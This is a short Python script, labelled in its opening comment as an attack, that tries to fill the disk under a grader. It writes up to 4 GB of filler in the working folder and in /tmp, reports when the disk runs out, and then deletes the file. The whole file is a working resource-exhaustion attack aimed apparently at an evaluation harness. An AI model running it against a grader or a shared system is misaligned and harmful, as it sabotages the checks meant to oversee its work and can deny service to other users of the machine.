# Attack: fill the disk the grader runs on, from the working folder and from /tmp.
import os

for folder in (".", "/tmp"):
    written = 0
    try:
        with open(os.path.join(folder, "filler.bin"), "wb") as f:
            block = b"\0" * 2**20
            for _ in range(4096):            # 4 GB
                f.write(block)
                f.flush()
                written += 1
    except OSError as error:
        print(f"DISK FULL in {folder} after {written} MB: {type(error).__name__}")
    try:
        os.remove(os.path.join(folder, "filler.bin"))
    except OSError:
        pass
